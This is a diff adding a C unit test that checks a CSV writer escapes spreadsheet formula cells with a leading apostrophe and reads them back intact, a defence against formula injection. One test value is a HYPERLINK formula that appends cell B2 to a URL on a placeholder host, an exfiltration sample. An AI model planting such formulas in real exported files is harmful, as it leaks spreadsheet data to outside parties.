@@ -578,6 +578,56 @@ static void writer_round_trip(void **state)
 	free(text);
 }
 
+/* formula cells (io/csv.h): written with one leading ', read back without it, whatever they hold */
+static void formula_guard(void **state)
+{
+	static const struct {
+		const char *value, *written;
+	} cases[] = {
+	    {"=HYPERLINK(\"http://x/?d=\"&B2,\"点击\")", "\"'=HYPERLINK(\"\"http://x/?d=\"\"&B2,\"\"点击\"\")\""},
+	    {"+1", "'+1"},
+	    {"-1", "'-1"},
+	    {"@SUM(A1)", "'@SUM(A1)"},
+	    {"\tx", "'\tx"},
+	    {"\rx", "\"'\rx\""},
+	    {"'=x", "''=x"},
+	    {"''@x", "'''@x"},
+	    {"'x", "'x"},
+	    {"a=b", "a=b"},
+	    {"'", "'"},
+	    {"", ""},
+	    {"=", "'="},
+	};
+	size_t n = sizeof(cases) / sizeof(cases[0]);
+	char *text = NULL;
+	size_t len = 0;
+	for (size_t i = 0; i < n; i++) {
+		FILE *out = open_memstream(&text, &len);
+		csv_write_field(out, cases[i].value, 1);
+		fclose(out);
+		assert_string_equal(text, cases[i].written);
+		free(text);
+	}
+	FILE *out = open_memstream(&text, &len);
+	for (size_t i = 0; i < n; i++) {
+		csv_write_field(out, "key", 1);
+		csv_write_field(out, cases[i].value, 0);
+		csv_end_record(out);
+	}
+	fclose(out);
+	struct csv_reader *r = csv_open_mem(text, len, NULL);
+	struct csv_record rec;
+	for (size_t i = 0; i < n; i++) {
+		assert_int_equal(csv_next(r, &rec, NULL), 1);
+		assert_int_equal(rec.nfields, 2);
+		assert_string_equal(rec.fields[1], cases[i].value);
+		assert_int_equal(rec.lens[1], strlen(cases[i].value));
+	}
+	assert_int_equal(csv_next(r, &rec, NULL), 0);
+	csv_close(r);
+	free(text);
+}
+
 /*
  * A large generated input: row i has five fields, of which some need quotes, span lines or hold
  * Chinese text; each is recomputed while reading to compare.
@@ -681,6 +731,7 @@ int main(void)
 	    cmocka_unit_test(files_and_pipes),
 	    cmocka_unit_test(sample_files),
 	    cmocka_unit_test(writer_round_trip),
+	    cmocka_unit_test(formula_guard),
 	    cmocka_unit_test(large_input),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
